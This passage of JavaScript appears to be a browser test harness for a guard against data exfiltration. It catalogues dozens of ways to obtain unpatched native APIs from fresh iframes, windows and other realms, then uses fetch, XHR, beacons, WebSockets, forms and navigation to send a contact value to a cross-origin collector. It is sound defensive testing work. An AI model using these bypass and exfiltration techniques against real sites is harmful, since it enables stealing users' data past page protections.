// Ways to fresh natives: those of another window, read before anything could stand in front of them,
// and used to send the value. Without a guard each gets it to the collector.
// A `var`, since the scripts of frames ask their parent for it.
var stageRealms = (() => {
  /** Of this server: never answered. */
  const SLOW = '/slow';
  /** Of this server: answered after a while. */
  const LATE = '/late';
  /** Of this server: answered, with nothing to show. */
  const NONE = '/none';
  /** What the scripts inside of what is made send, and where to: set by `run`. */
  let value = '';
  let to = '';
  /** @type {Window[]} */
  const opened = [];
  /** The ends of what was sent by scripts inside of what is made. @type {Promise<unknown>[]} */
  const ends = [];

  const collector = () => `${to}/realm`;
  const withValue = () => `${to}/realm?contact=${encodeURIComponent(value)}`;
  const soon = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
  const loaded = (node) => new Promise((done) => node.addEventListener('load', () => done(), { once: true }));

  const made = (tag, attributes = {}) => {
    const element = document.createElement(tag);
    for (const [name, text] of Object.entries(attributes)) element.setAttribute(name, text);
    return element;
  };
  const put = (node, parent = document.body) => { parent.append(node); return node; };
  const frame = (attributes) => put(made('iframe', attributes));
  const pending = () => made('iframe', { src: SLOW });
  const last = () => window[window.length - 1];
  const open = (...args) => { const each = window.open(...args); opened.push(each); return each; };
  const blobUrl = (text, type = 'text/html') => URL.createObjectURL(new Blob([text], { type }));
  const box = () => put(made('div'));

  /** Sends the value by the `fetch` of a window; ends when it has arrived or was refused. */
  const fetched = (realm) => {
    const end = realm.fetch(collector(), { method: 'POST', body: value }).catch(() => {});
    return Promise.race([end, soon(3000)]);
  };
  /** For scripts: sends with what is given, once. */
  const now = (realm) => { ends.push(fetched(realm)); };
  /** What a script inside is to do. */
  const NOW_FIRST = 'stageRealms.now(window[0])';
  const script = (text) => Object.assign(document.createElement('script'), { textContent: text });

  // --- The forms of a frame ------------------------------------------------------------------

  /** Each makes a frame and gives its window at once. @type {Record<string, () => any>} */
  const forms = {
    'no src': () => frame().contentWindow,
    'an empty src': () => frame({ src: '' }).contentWindow,
    'about:blank': () => frame({ src: 'about:blank' }).contentWindow,
    'about:blank with a query': () => frame({ src: 'about:blank?x' }).contentWindow,
    'about:blank with a fragment': () => frame({ src: 'about:blank#x' }).contentWindow,
    'src, never answered': () => frame({ src: SLOW }).contentWindow,
    'src, answered late': () => frame({ src: LATE }).contentWindow,
    'src, answered late, kept until then': async () => {
      const each = frame({ src: LATE });
      const { contentWindow } = each;
      const send = contentWindow.fetch;
      await loaded(each);
      return { fetch: (...args) => send.apply(contentWindow, args) };
    },
    'src, answered late, read then': async () => { const each = frame({ src: LATE }); await loaded(each); return each.contentWindow; },
    'src, answered late, read before and then': async () => {
      const each = frame({ src: LATE });
      void each.contentWindow.fetch;
      await loaded(each);
      return each.contentWindow;
    },
    'src with nothing to show': () => frame({ src: NONE }).contentWindow,
    'src with nothing to show, later': async () => { const each = frame({ src: NONE }); await soon(200); return each.contentWindow; },
    'src of another origin, pending': () => frame({ src: `${to}${SLOW}` }).contentWindow,
    'src that cannot be reached': () => frame({ src: 'http://localhost:1/' }).contentWindow,
    'src of an unknown scheme': () => frame({ src: 'nothing:x' }).contentWindow,
    'src that is no address': () => frame({ src: 'http://' }).contentWindow,
    'srcdoc': () => frame({ srcdoc: '<p>text' }).contentWindow,
    'srcdoc, empty': () => frame({ srcdoc: '' }).contentWindow,
    'srcdoc and src': () => frame({ srcdoc: '<p>text', src: SLOW }).contentWindow,
    'srcdoc, set later': () => { const each = frame(); each.srcdoc = '<p>text'; return each.contentWindow; },
    'srcdoc, loaded': async () => { const each = frame({ srcdoc: '<p>text' }); await loaded(each); return each.contentWindow; },
    'src, set later': () => { const each = frame(); each.src = SLOW; return each.contentWindow; },
    'src, set while another is pending': () => { const each = frame({ src: SLOW }); each.src = `${SLOW}?2`; return each.contentWindow; },
    'src, taken away while it is pending': () => { const each = frame({ src: SLOW }); each.removeAttribute('src'); return each.contentWindow; },
    'src, set before it is inserted': () => { const each = made('iframe'); each.src = SLOW; return put(each).contentWindow; },
    'javascript: with a text': () => frame({ src: 'javascript:"<p>text"' }).contentWindow,
    'javascript: with nothing': () => frame({ src: 'javascript:void 0' }).contentWindow,
    'javascript: with a text, later': async () => { const each = frame({ src: 'javascript:"<p>text"' }); await soon(100); return each.contentWindow; },
    'blob:': () => frame({ src: blobUrl('<p>text') }).contentWindow,
    'blob:, loaded': async () => { const each = frame({ src: blobUrl('<p>text') }); await loaded(each); return each.contentWindow; },
    'data:, not yet there': () => frame({ src: 'data:text/html,text' }).contentWindow,
    'lazy': () => frame({ src: SLOW, loading: 'lazy', style: 'margin-top: 30000px' }).contentWindow,
    'hidden': () => frame({ src: SLOW, hidden: '', style: 'display: none' }).contentWindow,
    'with a name': () => frame({ src: SLOW, name: 'named' }).contentWindow,
    'sandboxed, with scripts': () => frame({ sandbox: 'allow-same-origin allow-scripts' }).contentWindow,
    'sandboxed, with scripts, pending': () => frame({ sandbox: 'allow-same-origin allow-scripts', src: SLOW }).contentWindow,
    'sandboxed, without scripts': () => frame({ sandbox: 'allow-same-origin' }).contentWindow,
    'sandboxed, without scripts, pending': () => frame({ sandbox: 'allow-same-origin', src: SLOW }).contentWindow,
    'sandboxed, without scripts, srcdoc': async () => {
      const each = frame({ sandbox: 'allow-same-origin', srcdoc: '<p>text' });
      await loaded(each);
      return each.contentWindow;
    },
    'with a policy against scripts': async () => {
      const each = frame({ srcdoc: '<meta http-equiv="content-security-policy" content="script-src \'none\'"><p>text' });
      await loaded(each);
      return each.contentWindow;
    },
    'without credentials': () => frame({ credentialless: '' }).contentWindow,
    'without credentials, pending': () => frame({ credentialless: '', src: SLOW }).contentWindow,
    'of a frameset': () => {
      const set = put(made('frameset'), document.documentElement);
      return put(made('frame'), set).contentWindow;
    },
    'of a frameset, pending': () => {
      const set = put(made('frameset'), document.documentElement);
      return put(made('frame', { src: SLOW }), set).contentWindow;
    },
    'object': async () => { const each = put(made('object', { type: 'text/html', data: 'about:blank' })); await soon(100); return each.contentWindow; },
    'object, at once': () => put(made('object', { type: 'text/html', data: 'about:blank' })).contentWindow,
    'object, pending': () => put(made('object', { type: 'text/html', data: SLOW })).contentWindow,
    'object, pending, later': async () => { const each = put(made('object', { type: 'text/html', data: SLOW })); await soon(100); return each.contentWindow; },
    'object, blob:': async () => { const each = put(made('object', { type: 'text/html', data: blobUrl('<p>text') })); await loaded(each); return each.contentWindow; },
    'object, by index': async () => { put(made('object', { type: 'text/html', data: blobUrl('<p>text') })); await soon(200); return last(); },
    'embed, pending, later': async () => { put(made('embed', { type: 'text/html', src: SLOW })); await soon(100); return last(); },
    'embed, blob:': async () => { const each = put(made('embed', { type: 'text/html', src: blobUrl('<p>text') })); await loaded(each); return last(); },
    'nested': () => { const outer = frame(); return put(outer.contentDocument.createElement('iframe'), outer.contentDocument.body).contentWindow; },
    'nested, pending': () => {
      const outer = frame();
      const inner = outer.contentDocument.createElement('iframe');
      inner.src = SLOW;
      return put(inner, outer.contentDocument.body).contentWindow;
    },
    'nested in a pending one': () => {
      const { contentDocument } = frame({ src: SLOW });
      return put(contentDocument.createElement('iframe'), contentDocument.body).contentWindow;
    },
    'nested in a pending one, by its own methods': () => {
      const outer = frame({ src: SLOW }).contentWindow;
      outer.document.body.innerHTML = '<iframe></iframe>';
      return outer[0];
    },
    'nested three times': () => {
      let { contentDocument } = frame();
      for (let depth = 0; depth < 2; depth += 1) ({ contentDocument } = put(contentDocument.createElement('iframe'), contentDocument.body));
      return contentDocument.defaultView;
    },
    'nested in srcdoc': async () => { const each = frame({ srcdoc: `<iframe src=${SLOW}></iframe>` }); await soon(200); return each.contentWindow[0]; },
    'moved': () => { const each = frame({ src: SLOW }); each.remove(); return put(each).contentWindow; },
    'moved within the page': () => { const each = frame({ src: SLOW }); return put(each, box()).contentWindow; },
    'moved into a frame': () => { const each = frame({ src: SLOW }); return put(each, frame().contentDocument.body).contentWindow; },
    'moved out of a frame': () => {
      const { contentDocument } = frame();
      return put(put(contentDocument.createElement('iframe'), contentDocument.body)).contentWindow;
    },
    'made by the document of a frame': () => put(frame().contentDocument.createElement('iframe')).contentWindow,
    'cloned': () => put(frame({ src: SLOW }).cloneNode()).contentWindow,
    'cloned within something': () => { const outer = made('div'); outer.append(pending()); put(outer.cloneNode(true)); return last(); },
    'imported of a template': () => {
      const template = made('template');
      template.innerHTML = `<iframe src=${SLOW}></iframe>`;
      put(document.importNode(template.content, true));
      return last();
    },
    'the content of a template': () => {
      const template = made('template');
      template.innerHTML = `<div><iframe src=${SLOW}></iframe></div>`;
      put(template.content);
      return last();
    },
    'adopted of another document': () => {
      const other = document.implementation.createHTMLDocument('');
      other.body.innerHTML = `<iframe src=${SLOW}></iframe>`;
      return put(document.adoptNode(other.body.firstChild)).contentWindow;
    },
    'parsed by a DOMParser': () => {
      put(new DOMParser().parseFromString(`<iframe src=${SLOW}></iframe>`, 'text/html').body.firstChild);
      return last();
    },
    'in an open shadow root': () => { const root = box().attachShadow({ mode: 'open' }); return put(pending(), root).contentWindow; },
    'in a closed shadow root': () => { const root = box().attachShadow({ mode: 'closed' }); return put(pending(), root).contentWindow; },
    'in a closed shadow root, by innerHTML': () => {
      const root = box().attachShadow({ mode: 'closed' });
      root.innerHTML = `<iframe src=${SLOW}></iframe>`;
      return root.firstChild.contentWindow;
    },
    'in a shadow root that is inserted': () => {
      const host = made('div');
      const root = host.attachShadow({ mode: 'closed' });
      const each = put(pending(), root);
      put(host);
      return each.contentWindow;
    },
    'in a declared shadow root': () => {
      const host = box();
      host.setHTMLUnsafe(`<div><template shadowrootmode="open"><iframe src=${SLOW}></iframe></template></div>`);
      return host.firstChild.shadowRoot.firstChild.contentWindow;
    },
    'in a declared, closed shadow root': () => {
      let root;
      customElements.define('realm-declared', class extends HTMLElement {
        constructor() { super(); root = this.attachInternals().shadowRoot; }
      });
      box().setHTMLUnsafe(`<realm-declared><template shadowrootmode="closed"><iframe src=${SLOW}></iframe></template></realm-declared>`);
      return root.firstChild.contentWindow;
    },
    'written into': () => {
      const { contentDocument, contentWindow } = frame();
      contentDocument.write(`<iframe src=${SLOW}></iframe>`);
      return contentWindow[0];
    },
    'written into, opened before': () => {
      const { contentDocument, contentWindow } = frame();
      contentDocument.open();
      contentDocument.write(`<iframe src=${SLOW}></iframe>`);
      contentDocument.close();
      return contentWindow[0];
    },
    'opened anew': () => { const { contentDocument, contentWindow } = frame(); contentDocument.open(); return contentWindow; },
    'opened anew while it is pending': () => { const { contentDocument, contentWindow } = frame({ src: SLOW }); contentDocument.open(); return contentWindow; },
    'opened anew, later': async () => {
      const { contentDocument, contentWindow } = frame();
      contentDocument.open();
      contentDocument.write('<p>text');
      contentDocument.close();
      await soon(100);
      return contentWindow;
    },
    'emptied': () => { const { contentDocument, contentWindow } = frame(); contentDocument.documentElement.remove(); return contentWindow; },
    'sent elsewhere, back again': async () => {
      const each = frame({ src: `${to}/x` });
      await loaded(each);
      each.src = 'about:blank';
      await loaded(each);
      return each.contentWindow;
    },
    'after another site': async () => {
      const each = frame({ src: `${to}/x` });
      await loaded(each);
      each.src = '/plain';
      await loaded(each);
      return each.contentWindow;
    },
    'made by a link': async () => {
      const each = frame({ name: 'aimed' });
      put(made('a', { href: SLOW, target: 'aimed' })).click();
      return each.contentWindow;
    },
    'made by a form': async () => {
      const each = frame({ name: 'aimed' });
      put(made('form', { action: SLOW, target: 'aimed' })).submit();
      return each.contentWindow;
    },
    'a thousand at once': () => {
      const host = box();
      host.innerHTML = `<iframe src=${SLOW} loading=lazy></iframe>`.repeat(200);
      return last();
    },
  };

  // --- Windows -------------------------------------------------------------------------------

  /** @type {Record<string, () => any>} */
  const windows = {
    'open()': () => open(),
    'open(about:blank)': () => open('about:blank'),
    'open(pending)': () => open(SLOW),
    'open(pending, of another origin)': () => open(`${to}${SLOW}`),
    'open(late), kept until then': async () => {
      const each = open(LATE);
      const send = each.fetch;
      await soon(600);
      return { fetch: (...args) => send.apply(each, args) };
    },
    'open(blob:)': () => open(blobUrl('<p>text')),
    'open(javascript:)': () => open('javascript:"<p>text"'),
    'open(nothing to show)': () => open(NONE),
    'open(name)': () => open('', 'own-name'),
    'open(name), twice': () => { open('', 'own-name'); return window.open('', 'own-name'); },
    'open(popup)': () => open('', '', 'popup,width=200,height=200'),
    'open(), written into': () => {
      const each = open();
      each.document.write(`<iframe src=${SLOW}></iframe>`);
      return each[0];
    },
    'open(), a frame in it': () => {
      const each = open();
      return put(each.document.createElement('iframe'), each.document.body).contentWindow;
    },
    'open of a frame': () => { const each = frame().contentWindow.open(); opened.push(each); return each; },
    'open of a pending frame': () => { const each = frame({ src: SLOW }).contentWindow.open(); opened.push(each); return each; },
    'open into a frame': () => { frame({ name: 'aimed' }); return open(SLOW, 'aimed'); },
    'open, a frame of its opener': () => { const each = open(); frame({ src: SLOW }); return each.opener[0]; },
    'by the target of a form': () => {
      put(made('form', { action: SLOW, target: 'by-form' })).submit();
      return open('', 'by-form');
    },
    'by the target of a link': async () => {
      put(made('a', { href: SLOW, target: 'by-link', rel: 'opener' })).click();
      await soon(100);
      return open('', 'by-link');
    },
    'document.open of three': () => { const each = document.open(SLOW, '', ''); opened.push(each); return each; },
  };

  // --- Insertion -----------------------------------------------------------------------------

  const MARKUP = `<iframe src=${SLOW}></iframe>`;
  /** Each inserts a frame; its window is the last one. @type {Record<string, () => unknown>} */
  const insertions = {
    'appendChild': () => document.body.appendChild(pending()),
    'insertBefore': () => document.body.insertBefore(pending(), document.body.firstChild),
    'replaceChild': () => document.body.replaceChild(pending(), box()),
    'append': () => document.body.append('text', pending()),
    'append on the document element': () => document.documentElement.append(pending()),
    'prepend': () => document.body.prepend(pending()),
    'before': () => box().before(pending()),
    'after': () => box().after(pending()),
    'replaceWith': () => box().replaceWith(pending()),
    'replaceChildren': () => box().replaceChildren(pending()),
    'append on a fragment, then its insertion': () => {
      const fragment = new DocumentFragment();
      fragment.append(pending());
      document.body.append(fragment);
    },
    'append of a tree': () => { const outer = made('div'); outer.append(made('p'), pending()); document.body.append(outer); },
    'append on a text': () => { const text = new Text('x'); document.body.append(text); text.after(pending()); },
    'append on a comment': () => { const comment = new Comment('x'); document.body.append(comment); comment.replaceWith(pending()); },
    'insertAdjacentElement': () => box().insertAdjacentElement('afterend', pending()),
    'insertAdjacentHTML': () => box().insertAdjacentHTML('beforeend', MARKUP),
    'innerHTML': () => { box().innerHTML = MARKUP; },
    'innerHTML of the body': () => { document.body.innerHTML = MARKUP; },
    'innerHTML of a shadow root, then by index': () => { const host = box(); host.innerHTML = `<p>${MARKUP}</p>`; },
    'outerHTML': () => { box().outerHTML = MARKUP; },
    'setHTMLUnsafe': () => box().setHTMLUnsafe(MARKUP),
    'createContextualFragment': () => document.body.append(document.createRange().createContextualFragment(MARKUP)),
    'Range.insertNode': () => { const range = document.createRange(); range.selectNodeContents(box()); range.insertNode(pending()); },
    'Range.surroundContents': () => {
      const range = document.createRange();
      const around = box();
      around.append('text');
      range.selectNodeContents(around);
      const outer = made('div');
      // It empties what it puts around, so the frame is what is surrounded.
      around.append(pending());
      range.selectNodeContents(around);
      range.surroundContents(outer);
    },
    'Range.extractContents': () => {
      const outer = box();
      outer.append(pending());
      const range = document.createRange();
      range.selectNodeContents(outer);
      document.body.append(range.extractContents());
    },
    'moveBefore': () => { const host = box(); host.append(pending()); document.body.moveBefore(host, null); },
    'execCommand insertHTML': () => {
      const host = box();
      host.contentEditable = 'true';
      host.focus();
      document.execCommand('insertHTML', false, MARKUP);
    },
    'document.write': () => { document.open(); document.write(MARKUP); },
    'document.writeln': () => { document.writeln('<p>', MARKUP); },
    'documentElement replaced': () => {
      const root = document.documentElement.cloneNode(true);
      root.lastChild.append(pending());
      document.documentElement.replaceWith(root);
    },
    'XSLT': () => {
      const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/>
        <xsl:template match="/"><iframe src="${SLOW}"/></xsl:template></xsl:stylesheet>`, 'text/xml');
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      document.body.append(processor.transformToFragment(document, document));
    },
    'slot': () => { const host = box(); host.attachShadow({ mode: 'open' }).innerHTML = '<slot></slot>'; host.append(pending()); },
    'setAttribute on one without src': () => { const each = made('iframe'); document.body.append(each); each.setAttribute('src', SLOW); },
    'setAttributeNode': () => { const attribute = document.createAttribute('src'); attribute.value = SLOW; const each = made('iframe'); each.setAttributeNode(attribute); document.body.append(each); },
  };

  /** Each has a script of the page run in the middle of an insertion. @type {Record<string, () => unknown>} */
  const amid = {
    'a script after it in a fragment': () => {
      const fragment = new DocumentFragment();
      fragment.append(pending(), script(NOW_FIRST));
      document.body.append(fragment);
    },
    'a script after it in a tree': () => {
      const outer = made('div');
      outer.append(pending(), script(NOW_FIRST));
      document.body.append(outer);
    },
    'a script after it in append()': () => document.body.append(pending(), script(NOW_FIRST)),
    'a script after it in replaceChildren()': () => box().replaceChildren(pending(), script(NOW_FIRST)),
    'a script after it in createContextualFragment': () =>
      document.body.append(document.createRange().createContextualFragment(`${MARKUP}<script>${NOW_FIRST}<\/script>`)),
    'a script after it, inserted by the range': () => {
      const range = document.createRange();
      range.selectNodeContents(box());
      range.insertNode(range.createContextualFragment(`${MARKUP}<script>${NOW_FIRST}<\/script>`));
    },
    'a script after it that was written': () => { document.open(); document.write(`${MARKUP}<script>${NOW_FIRST}<\/script>`); },
    'a script after it, written in pieces': () => {
      document.open();
      for (const piece of [`<ifr`, `ame src=${SLOW}></if`, `rame><scr`, `ipt>${NOW_FIRST}</scr`, `ipt>`]) document.write(piece);
    },
    'a script after it, written into a frame': () =>
      frame().contentDocument.write(`${MARKUP}<script>parent.stageRealms.now(window[0])<\/script>`),
    'a script in a frame that is written': () => { frame().contentDocument.write('<script>parent.stageRealms.now(window)<\/script>'); },
    'a script in a pending frame that is written': () => { frame({ src: SLOW }).contentDocument.write('<script>parent.stageRealms.now(window)<\/script>'); },
    'a script in a pending frame, inserted': () => {
      const { contentDocument } = frame({ src: SLOW });
      const each = contentDocument.createElement('script');
      each.textContent = 'parent.stageRealms.now(window)';
      contentDocument.body.append(each);
    },
    'a script in srcdoc': async () => { const each = frame({ srcdoc: '<script>parent.stageRealms.now(window)<\/script>' }); await loaded(each); },
    'a script in blob:': async () => { const each = frame({ src: blobUrl('<script>parent.stageRealms.now(window)<\/script>') }); await loaded(each); },
    'a script in srcdoc, with a frame of its own': async () => {
      const each = frame({ srcdoc: `${MARKUP}<script>parent.stageRealms.now(window[0])<\/script>` });
      await soon(200);
    },
    'javascript: in src': async () => { frame({ src: 'javascript:parent.stageRealms.now(window)' }); await soon(200); },
    'javascript: in the address of a frame': async () => { frame().contentWindow.location = 'javascript:parent.stageRealms.now(window)'; await soon(200); },
    'javascript: in open()': async () => { opened.push(window.open('javascript:opener.stageRealms.now(window)')); await soon(200); },
    'a custom element after it': () => {
      customElements.define('realm-after', class extends HTMLElement { connectedCallback() { now(window[0]); } });
      box().innerHTML = `${MARKUP}<realm-after></realm-after>`;
    },
    'a custom element after it, in a tree': () => {
      customElements.define('realm-tree', class extends HTMLElement { connectedCallback() { now(window[0]); } });
      const outer = made('div');
      outer.append(pending(), made('realm-tree'));
      document.body.append(outer);
    },
    'a custom element around it': () => {
      customElements.define('realm-around', class extends HTMLElement { connectedCallback() { const each = this.querySelector('iframe'); each.contentWindow ? now(each.contentWindow) : queueMicrotask(() => now(each.contentWindow)); } });
      box().innerHTML = `<realm-around>${MARKUP}</realm-around>`;
    },
    'a custom element that leaves as it comes': () => {
      customElements.define('realm-leaves', class extends HTMLElement { disconnectedCallback() { now(window[0]); } });
      const host = box();
      host.innerHTML = '<realm-leaves></realm-leaves>';
      host.innerHTML = MARKUP;
    },
    'a custom element whose attribute changes': () => {
      let each;
      customElements.define('realm-attribute', class extends HTMLElement {
        static observedAttributes = ['x'];
        connectedCallback() { each = pending(); this.append(each); this.setAttribute('x', '1'); }
        attributeChangedCallback() { now(each.contentWindow); }
      });
      put(made('realm-attribute'));
    },
    'a mutation observer': async () => {
      const done = new Promise((heard) => new MutationObserver((_, observer) => { observer.disconnect(); now(window[0]); heard(); }).observe(document.body, { childList: true }));
      document.body.append(pending());
      await done;
    },
    'load of a frame without src, at once': () => {
      const each = made('iframe');
      each.onload = () => { each.onload = null; now(each.contentWindow); };
      document.body.append(each);
      return soon(100);
    },
    'load of a frame, heard by the document': async () => {
      const heard = new Promise((done) => document.addEventListener('load', (event) => { now(event.target.contentWindow); done(); }, { capture: true, once: true }));
      frame({ src: LATE });
      await heard;
    },
    'a handler in the markup': async () => { box().innerHTML = '<iframe srcdoc="text" onload="stageRealms.now(this.contentWindow)"></iframe>'; await soon(200); },
    'pagehide of a frame that is removed': () => {
      const each = frame();
      each.contentWindow.addEventListener('pagehide', () => { const other = pending(); document.body.append(other); now(other.contentWindow); });
      each.remove();
    },
    'a dispatched event': () => {
      const host = box();
      host.addEventListener('x', () => { now(window[0]); });
      host.append(pending());
      host.dispatchEvent(new Event('x'));
    },
  };

  // --- Reaching it ---------------------------------------------------------------------------

  const reachable = () => frame({ src: SLOW, name: 'reached', id: 'reached-id' });
  const getterOf = (holder, name) => Object.getOwnPropertyDescriptor(holder, name).get;
  /** Each reaches the window of a pending frame. @type {Record<string, () => any>} */
  const reaches = {
    'contentWindow': () => reachable().contentWindow,
    'contentDocument.defaultView': () => reachable().contentDocument.defaultView,
    'window[index]': () => { reachable(); return window[0]; },
    'frames[index]': () => { reachable(); return frames[0]; },
    'self, top, parent': () => { reachable(); return self.top.parent[0]; },
    'document.defaultView[index]': () => { reachable(); return document.defaultView[0]; },
    'frames[name]': () => { reachable(); return frames['reached']; },
    'window[name]': () => { reachable(); return window.reached; },
    'the name as a variable': () => { reachable(); return (0, eval)('reached'); },
    'window[id]': () => { reachable(); return window['reached-id'].contentWindow; },
    'document[name]': () => { reachable(); return document['reached']; },
    'Reflect.get': () => { reachable(); return Reflect.get(window, '0'); },
    'a descriptor of the window': () => { reachable(); return Object.getOwnPropertyDescriptor(window, '0').value; },
    'Object.values of the window': () => { reachable(); return Object.entries(window).find(([name]) => name === '0')[1]; },
    'a getter, called': () => getterOf(HTMLIFrameElement.prototype, 'contentWindow').call(reachable()),
    'a getter of another frame': () => {
      const other = frame().contentWindow;
      return getterOf(other.HTMLIFrameElement.prototype, 'contentWindow').call(reachable());
    },
    'a getter of another pending frame': () => {
      const each = reachable();
      return getterOf(window[0].HTMLIFrameElement.prototype, 'contentWindow').call(each);
    },
    'the active element': () => { const each = reachable(); each.tabIndex = 0; each.focus(); return document.activeElement.contentWindow; },
    'querySelector': () => { reachable(); return document.querySelector('iframe').contentWindow; },
    'document.all': () => { reachable(); return document.all['reached-id'].contentWindow; },
    'eval of it': () => reachable().contentWindow.eval('window'),
    'Function of it': () => reachable().contentWindow.Function('return this')(),
    'the constructor of a node of it': () => reachable().contentDocument.createElement('a').constructor.constructor('return this')(),
    'the constructor of its location': () => reachable().contentWindow.location.toString.constructor('return this')(),
    'a timer of it': () => new Promise((done) => { window.realmReached = done; reachable().contentWindow.setTimeout('parent.realmReached(window)'); }),
    'the document of a node of it': () => reachable().contentDocument.createTextNode('x').ownerDocument.defaultView,
    'the root of a node of it': () => reachable().contentDocument.body.getRootNode().defaultView,
    'a range in it': () => reachable().contentDocument.createRange().startContainer.defaultView,
    'its selection': () => { const each = reachable(); each.contentWindow.getSelection().collapse(each.contentDocument.body); return each.contentWindow.getSelection().anchorNode.ownerDocument.defaultView; },
    'the view of an event': () => new UIEvent('x', { view: reachable().contentWindow }).view,
    'the source of a made event': () => new MessageEvent('message', { source: reachable().contentWindow }).source,
    'the source of a message': () => new Promise((done) => {
      addEventListener('message', (event) => done(event.source), { once: true });
      frame({ src: 'javascript:parent.postMessage(1, "*")' });
    }),
    'the source of a message of srcdoc': () => new Promise((done) => {
      addEventListener('message', (event) => done(event.source), { once: true });
      frame({ srcdoc: '<script>parent.postMessage(1, "*")<\/script>' });
    }),
    'frameElement of a nested one': () => {
      const { contentDocument } = reachable();
      return put(contentDocument.createElement('iframe'), contentDocument.body).contentWindow.frameElement.ownerDocument.defaultView;
    },
    'parent of a nested one': () => {
      const { contentDocument } = reachable();
      return put(contentDocument.createElement('iframe'), contentDocument.body).contentWindow.parent;
    },
    'getSVGDocument of a frame': async () => {
      const each = frame({ src: blobUrl('<svg xmlns="http://www.w3.org/2000/svg"/>', 'image/svg+xml') });
      await loaded(each);
      return each.getSVGDocument().defaultView;
    },
    'getSVGDocument of an object': async () => {
      const each = put(made('object', { type: 'image/svg+xml', data: blobUrl('<svg xmlns="http://www.w3.org/2000/svg"/>', 'image/svg+xml') }));
      await loaded(each);
      return each.getSVGDocument().defaultView;
    },
    'getSVGDocument of an embed': async () => {
      const each = put(made('embed', { type: 'image/svg+xml', src: blobUrl('<svg xmlns="http://www.w3.org/2000/svg"/>', 'image/svg+xml') }));
      await loaded(each);
      return each.getSVGDocument().defaultView;
    },
    'the document of an object': async () => {
      const each = put(made('object', { type: 'text/html', data: blobUrl('<p>text') }));
      await loaded(each);
      return each.contentDocument.defaultView;
    },
  };

  // --- Using what was got --------------------------------------------------------------------

  const link = (document, more = {}) => Object.assign(document.createElement('a'), { href: withValue(), ...more });
  const form = (document, more = {}) => {
    const each = Object.assign(document.createElement('form'), { action: collector(), method: 'post', ...more });
    each.append(Object.assign(document.createElement('input'), { name: 'contact', value }));
    document.body.append(each);
    return each;
  };
  const sentBy = (request) => Promise.race([new Promise((done) => { request.onloadend = done; }), soon(2000)]);

  /** Natives of a window on objects of its own. @type {Record<string, (realm: any) => unknown>} */
  const own = {
    'fetch': fetched,
    'fetch of a Request': (realm) => realm.fetch(new realm.Request(collector(), { method: 'POST', body: value })).catch(() => {}),
    'XMLHttpRequest': (realm) => {
      const request = new realm.XMLHttpRequest();
      request.open('POST', collector());
      const end = sentBy(request);
      request.send(value);
      return end;
    },
    'XMLHttpRequest, synchronous': (realm) => {
      const request = new realm.XMLHttpRequest();
      request.open('POST', collector(), false);
      request.send(value);
      return soon(0);
    },
    'sendBeacon': (realm) => { realm.navigator.sendBeacon(collector(), value); },
    'fetchLater': (realm) => { realm.fetchLater(collector(), { method: 'POST', body: value, activateAfter: 0 }); },
    'EventSource': (realm) => { new realm.EventSource(withValue()); },
    'WebSocket': (realm) => { new realm.WebSocket(withValue().replace('http', 'ws')); },
    'Image': (realm) => { new realm.Image().src = withValue(); },
    'poster': (realm) => { realm.document.createElement('video').poster = withValue(); },
    'FontFace': (realm) => { realm.document.fonts.add(new realm.FontFace('x', `url(${withValue()})`)); realm.document.fonts.load('12px x').catch(() => {}); },
    'Worker': (realm) => { new realm.Worker(blobUrl(`fetch(${JSON.stringify(collector())}, { method: 'POST', body: ${JSON.stringify(value)} })`, 'text/javascript')); },
    'import()': (realm) => { realm.eval(`import(${JSON.stringify(withValue())}).catch(() => {})`); },
    'a script': (realm) => { const each = realm.document.createElement('script'); each.src = withValue(); realm.document.body.append(each); },
    'a style sheet': (realm) => { const each = realm.document.createElement('style'); each.textContent = `@import "${withValue()}"`; realm.document.body.append(each); },
    'a frame': (realm) => { const each = realm.document.createElement('iframe'); each.src = withValue(); realm.document.body.append(each); },
    'innerHTML': (realm) => { realm.document.body.innerHTML = `<img src="${withValue()}">`; },
    'document.write': (realm) => { realm.document.write(`<img src="${withValue()}">`); },
    'meta refresh': (realm) => { realm.document.head.innerHTML = `<meta http-equiv="refresh" content="0;url=${withValue()}">`; },
    'meta refresh, written': (realm) => { realm.document.write(`<meta http-equiv="refresh" content="0;url=${withValue()}">`); realm.document.close(); },
    'a link, click()': (realm) => { link(realm.document).click(); },
    'a link in the document, click()': (realm) => { put(link(realm.document), realm.document.body).click(); },
    'a link, dispatchEvent': (realm) => { link(realm.document).dispatchEvent(new realm.MouseEvent('click', { bubbles: true, cancelable: true })); },
    'a link into a new window, click()': (realm) => { link(realm.document, { target: '_blank' }).click(); },
    'form.submit()': (realm) => { form(realm.document).submit(); },
    'form.requestSubmit()': (realm) => { form(realm.document).requestSubmit(); },
    'form.submit() into a new window': (realm) => { form(realm.document, { target: '_blank' }).submit(); },
    'form.submit() into the page': (realm) => { form(realm.document, { target: '_top' }).submit(); },
    'location =': (realm) => { realm.location = withValue(); },
    'location.href =': (realm) => { realm.location.href = withValue(); },
    'location.assign()': (realm) => { realm.location.assign(withValue()); },
    'location.replace()': (realm) => { realm.location.replace(withValue()); },
    'document.location =': (realm) => { realm.document.location = withValue(); },
    'location of the page, by its setter': (realm) => { Object.getOwnPropertyDescriptor(realm, 'location').set.call(realm, withValue()); },
    'navigation.navigate()': (realm) => { realm.navigation.navigate(withValue()).finished?.catch(() => {}); },
    'open()': (realm) => { opened.push(realm.open(withValue())); },
    'open() into itself': (realm) => { realm.open(withValue(), '_self'); },
    'parent.location =': (realm) => { realm.eval(`parent.location = ${JSON.stringify(withValue())}`); },
    'postMessage to another site': async (realm) => {
      const other = frame({ src: `${to}/listen` });
      await loaded(other);
      realm.postMessage.call(other.contentWindow, value, '*');
      await soon(200);
    },
    'sendBeacon of a blob': (realm) => { realm.navigator.sendBeacon(collector(), new realm.Blob([value])); },
  };

  /** Natives of a window on objects of the page. @type {Record<string, (realm: any) => unknown>} */
  const onThePage = {
    'fetch': ({ fetch }) => () => fetch.call(window, collector(), { method: 'POST', body: value }).catch(() => {}),
    'XMLHttpRequest': ({ XMLHttpRequest: { prototype: { open, send } } }) => () => {
      const request = new XMLHttpRequest();
      open.call(request, 'POST', collector());
      const end = sentBy(request);
      send.call(request, value);
      return end;
    },
    'sendBeacon': ({ Navigator: { prototype: { sendBeacon } } }) => () => { sendBeacon.call(navigator, collector(), value); },
